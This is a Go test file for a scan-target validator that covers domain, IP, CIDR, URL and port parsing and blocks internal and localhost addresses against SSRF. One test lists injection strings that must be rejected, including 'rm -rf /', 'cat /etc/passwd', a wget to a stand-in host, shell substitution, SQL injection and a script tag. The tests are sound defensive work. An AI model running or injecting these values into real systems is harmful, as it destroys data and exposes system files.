package validator

import (
	"testing"
)

func TestNewTargetValidator(t *testing.T) {
	t.Run("default options", func(t *testing.T) {
		v := NewTargetValidator()
		if v.allowInternalIPs {
			t.Error("expected allowInternalIPs to be false by default")
		}
		if v.allowLocalhost {
			t.Error("expected allowLocalhost to be false by default")
		}
		if v.maxTargets != 1000 {
			t.Errorf("expected maxTargets to be 1000, got %d", v.maxTargets)
		}
	})

	t.Run("with options", func(t *testing.T) {
		v := NewTargetValidator(
			WithAllowInternalIPs(true),
			WithAllowLocalhost(true),
			WithMaxTargets(500),
		)
		if !v.allowInternalIPs || !v.allowLocalhost {
			t.Error("expected options to be applied")
		}
		if v.maxTargets != 500 {
			t.Errorf("expected maxTargets to be 500, got %d", v.maxTargets)
		}
	})
}

func TestValidateSingleTarget_Domain(t *testing.T) {
	v := NewTargetValidator()

	tests := []struct {
		name    string
		target  string
		wantOK  bool
		wantErr string
	}{
		{"valid domain", "example.com", true, ""},
		{"valid subdomain", "sub.example.com", true, ""},
		{"valid domain with hyphens", "my-test-site.example.com", true, ""},
		{"valid multi-label TLD", "example.co.uk", true, ""},
		{"valid wildcard", "*.example.com", true, ""},
		{"invalid - starts with hyphen", "-example.com", false, "invalid domain format"},
		{"invalid - ends with hyphen", "example-.com", false, "invalid domain format"},
		{"invalid - no TLD", "example", false, "invalid domain format"},
		{"invalid - only TLD", ".com", false, "invalid domain format"},
		{"invalid - double dot", "example..com", false, "invalid domain format"},
		{"invalid wildcard format", "*.*.example.com", false, "invalid wildcard domain format"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := v.ValidateSingleTarget(tt.target)
			if result.IsValid != tt.wantOK {
				t.Errorf("ValidateSingleTarget(%q) IsValid = %v, want %v, error: %s",
					tt.target, result.IsValid, tt.wantOK, result.Error)
			}
			if !tt.wantOK && result.Error != tt.wantErr {
				t.Errorf("ValidateSingleTarget(%q) Error = %q, want %q",
					tt.target, result.Error, tt.wantErr)
			}
			if tt.wantOK && result.Type != TargetTypeDomain {
				t.Errorf("ValidateSingleTarget(%q) Type = %v, want %v",
					tt.target, result.Type, TargetTypeDomain)
			}
		})
	}
}

func TestValidateSingleTarget_DomainNormalization(t *testing.T) {
	v := NewTargetValidator()

	tests := []struct {
		target    string
		wantValue string
	}{
		{"EXAMPLE.COM", "example.com"},
		{"Sub.Example.Com", "sub.example.com"},
		{"example.com.", "example.com"},
	}

	for _, tt := range tests {
		t.Run(tt.target, func(t *testing.T) {
			result := v.ValidateSingleTarget(tt.target)
			if !result.IsValid {
				t.Fatalf("expected %q to be valid, error: %s", tt.target, result.Error)
			}
			if result.Value != tt.wantValue {
				t.Errorf("Value = %q, want %q", result.Value, tt.wantValue)
			}
			if result.Original != tt.target {
				t.Errorf("Original = %q, want %q", result.Original, tt.target)
			}
		})
	}
}

func TestValidateSingleTarget_RegistrableDomain(t *testing.T) {
	v := NewTargetValidator()

	tests := []struct {
		target string
		want   string
	}{
		{"example.com", "example.com"},
		{"deep.sub.example.com", "example.com"},
		{"example.co.uk", "example.co.uk"},
		{"sub.example.co.uk", "example.co.uk"},
		{"*.cdn.example.com", "example.com"},
		{"https://api.example.com/v1", "example.com"},
		{"mail.example.com:587", "example.com"},
	}

	for _, tt := range tests {
		t.Run(tt.target, func(t *testing.T) {
			result := v.ValidateSingleTarget(tt.target)
			if !result.IsValid {
				t.Fatalf("expected %q to be valid, error: %s", tt.target, result.Error)
			}
			if result.RegistrableDomain != tt.want {
				t.Errorf("RegistrableDomain = %q, want %q", result.RegistrableDomain, tt.want)
			}
		})
	}

	t.Run("IP targets carry no registrable domain", func(t *testing.T) {
		result := v.ValidateSingleTarget("8.8.8.8")
		if !result.IsValid {
			t.Fatalf("expected valid, error: %s", result.Error)
		}
		if result.RegistrableDomain != "" {
			t.Errorf("RegistrableDomain = %q, want empty", result.RegistrableDomain)
		}
	})
}

func TestValidateSingleTarget_IP(t *testing.T) {
	v := NewTargetValidator()

	tests := []struct {
		name    string
		target  string
		wantOK  bool
		wantErr string
	}{
		{"valid public IP", "8.8.8.8", true, ""},
		{"valid public IP 2", "203.0.113.50", true, ""},
		{"blocked - private 10.x", "10.0.0.1", false, "internal IP addresses are not allowed (SSRF protection)"},
		{"blocked - private 172.16.x", "172.16.0.1", false, "internal IP addresses are not allowed (SSRF protection)"},
		{"blocked - private 192.168.x", "192.168.1.1", false, "internal IP addresses are not allowed (SSRF protection)"},
		{"blocked - localhost", "127.0.0.1", false, "localhost addresses are not allowed"},
		{"blocked - localhost range", "127.0.0.255", false, "localhost addresses are not allowed"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := v.ValidateSingleTarget(tt.target)
			if result.IsValid != tt.wantOK {
				t.Errorf("ValidateSingleTarget(%q) IsValid = %v, want %v, error: %s",
					tt.target, result.IsValid, tt.wantOK, result.Error)
			}
			if !tt.wantOK && result.Error != tt.wantErr {
				t.Errorf("ValidateSingleTarget(%q) Error = %q, want %q",
					tt.target, result.Error, tt.wantErr)
			}
		})
	}

	t.Run("IPv6 localhost rejected", func(t *testing.T) {
		// ::1 trips the host:port split on its colons; either way it must
		// not validate.
		if result := v.ValidateSingleTarget("::1"); result.IsValid {
			t.Error("expected ::1 to be invalid")
		}
	})

	t.Run("internal IPs allowed when opted in", func(t *testing.T) {
		permissive := NewTargetValidator(WithAllowInternalIPs(true), WithAllowLocalhost(true))
		for _, target := range []string{"10.0.0.1", "192.168.1.1", "127.0.0.1"} {
			result := permissive.ValidateSingleTarget(target)
			if !result.IsValid {
				t.Errorf("expected %q to be valid with permissive options, error: %s", target, result.Error)
			}
		}
	})
}

func TestValidateSingleTarget_CIDR(t *testing.T) {
	v := NewTargetValidator()

	tests := []struct {
		name   string
		target string
		wantOK bool
	}{
		{"valid /24", "203.0.113.0/24", true},
		{"valid /32 single IP", "8.8.8.8/32", true},
		{"valid /16", "198.51.100.0/16", true},
		{"blocked - private CIDR", "10.0.0.0/8", false},
		{"blocked - localhost CIDR", "127.0.0.0/8", false},
		{"too large /8", "8.0.0.0/8", false},
		{"invalid format", "invalid/24", false},
		{"invalid prefix", "8.8.8.8/33", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := v.ValidateSingleTarget(tt.target)
			if result.IsValid != tt.wantOK {
				t.Errorf("ValidateSingleTarget(%q) IsValid = %v, want %v, error: %s",
					tt.target, result.IsValid, tt.wantOK, result.Error)
			}
			if !tt.wantOK && result.Error == "" {
				t.Errorf("ValidateSingleTarget(%q) expected error but got none", tt.target)
			}
		})
	}
}

func TestValidateSingleTarget_URL(t *testing.T) {
	v := NewTargetValidator()

	tests := []struct {
		name   string
		target string
		wantOK bool
	}{
		{"valid https", "https://example.com", true},
		{"valid https with path", "https://example.com/path/to/page", true},
		{"valid http", "http://example.com", true},
		{"valid with port", "https://example.com:8443", true},
		{"blocked - localhost URL", "http://localhost:8080", false},
		{"blocked - localhost.localdomain URL", "http://localhost.localdomain/api", false},
		{"blocked - loopback URL", "http://127.0.0.1:8080", false},
		{"blocked - private IP URL", "https://10.0.0.1/api", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := v.ValidateSingleTarget(tt.target)
			if result.IsValid != tt.wantOK {
				t.Errorf("ValidateSingleTarget(%q) IsValid = %v, want %v, error: %s",
					tt.target, result.IsValid, tt.wantOK, result.Error)
			}
			if tt.wantOK && result.Type != TargetTypeURL {
				t.Errorf("ValidateSingleTarget(%q) Type = %v, want %v",
					tt.target, result.Type, TargetTypeURL)
			}
		})
	}
}

func TestValidateSingleTarget_HostPort(t *testing.T) {
	v := NewTargetValidator()

	tests := []struct {
		name     string
		target   string
		wantOK   bool
		wantPort int
	}{
		{"valid domain:port", "example.com:8080", true, 8080},
		{"valid IP:port", "8.8.8.8:53", true, 53},
		{"blocked - localhost:port", "localhost:8080", false, 0},
		{"blocked - private IP:port", "192.168.1.1:80", false, 0},
		{"invalid port 0", "example.com:0", false, 0},
		{"invalid port > 65535", "example.com:70000", false, 0},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := v.ValidateSingleTarget(tt.target)
			if result.IsValid != tt.wantOK {
				t.Errorf("ValidateSingleTarget(%q) IsValid = %v, want %v, error: %s",
					tt.target, result.IsValid, tt.wantOK, result.Error)
			}
			if tt.wantOK && result.Port != tt.wantPort {
				t.Errorf("ValidateSingleTarget(%q) Port = %d, want %d",
					tt.target, result.Port, tt.wantPort)
			}
		})
	}
}

func TestValidateSingleTarget_DangerousCharacters(t *testing.T) {
	v := NewTargetValidator()

	dangerousInputs := []string{
		"example.com; rm -rf /",
		"example.com | cat /etc/passwd",
		"example.com & wget evil.example",
		"example.com`id`",
		"example.com$(whoami)",
		"example.com' OR '1'='1",
		"example.com\nmalicious",
		"example.com<script>alert(1)</script>",
	}

	for _, input := range dangerousInputs {
		t.Run(input, func(t *testing.T) {
			result := v.ValidateSingleTarget(input)
			if result.IsValid {
				t.Errorf("expected dangerous input %q to be invalid", input)
			}
			if result.Error != "contains invalid characters" {
				t.Errorf("expected error 'contains invalid characters', got %q", result.Error)
			}
		})
	}
}

func TestValidateTargets(t *testing.T) {
	t.Run("mixed valid and invalid", func(t *testing.T) {
		v := NewTargetValidator()
		targets := []string{
			"example.com",           // valid
			"192.168.1.1",           // blocked
			"https://10.0.0.1/api",  // blocked
			"127.0.0.1",             // blocked
			"8.8.8.8",               // valid
			"example.com; rm -rf /", // dangerous
		}

		result := v.ValidateTargets(targets)

		if result.TotalCount != 6 {
			t.Errorf("TotalCount = %d, want 6", result.TotalCount)
		}
		if result.ValidCount != 2 {
			t.Errorf("ValidCount = %d, want 2", result.ValidCount)
		}
		if !result.HasErrors {
			t.Error("expected HasErrors to be true")
		}
		if len(result.BlockedIPs) != 3 {
			t.Errorf("BlockedIPs count = %d, want 3", len(result.BlockedIPs))
		}
	})

	t.Run("case-insensitive deduplication", func(t *testing.T) {
		v := NewTargetValidator()
		result := v.ValidateTargets([]string{"example.com", "EXAMPLE.COM", "Example.Com", "other.com"})
		if result.ValidCount != 2 {
			t.Errorf("ValidCount = %d, want 2 (should deduplicate)", result.ValidCount)
		}
	})

	t.Run("empty and whitespace entries skipped", func(t *testing.T) {
		v := NewTargetValidator()
		result := v.ValidateTargets([]string{"", "   ", "example.com", "\t", "  other.com  "})
		if result.ValidCount != 2 {
			t.Errorf("ValidCount = %d, want 2", result.ValidCount)
		}
	})

	t.Run("max targets limit", func(t *testing.T) {
		v := NewTargetValidator(WithMaxTargets(5))
		targets := make([]string, 10)
		for i := range 10 {
			targets[i] = "example.com"
		}
		result := v.ValidateTargets(targets)
		if !result.HasErrors {
			t.Error("expected HasErrors to be true when exceeding max targets")
		}
	})
}

func TestGetTargetsByType(t *testing.T) {
	v := NewTargetValidator()

	result := v.ValidateTargets([]string{
		"example.com",
		"sub.example.com",
		"8.8.8.8",
		"https://api.example.com",
		"203.0.113.0/24",
	})

	if got := len(result.GetTargetsByType(TargetTypeDomain)); got != 2 {
		t.Errorf("domains count = %d, want 2", got)
	}
	if got := len(result.GetTargetsByType(TargetTypeIPv4)); got != 1 {
		t.Errorf("ipv4s count = %d, want 1", got)
	}
	if got := len(result.GetTargetsByType(TargetTypeURL)); got != 1 {
		t.Errorf("urls count = %d, want 1", got)
	}
	if got := len(result.GetTargetsByType(TargetTypeCIDR)); got != 1 {
		t.Errorf("cidrs count = %d, want 1", got)
	}
	if got := len(result.GetValidTargetStrings()); got != 5 {
		t.Errorf("valid strings = %d, want 5", got)
	}
}
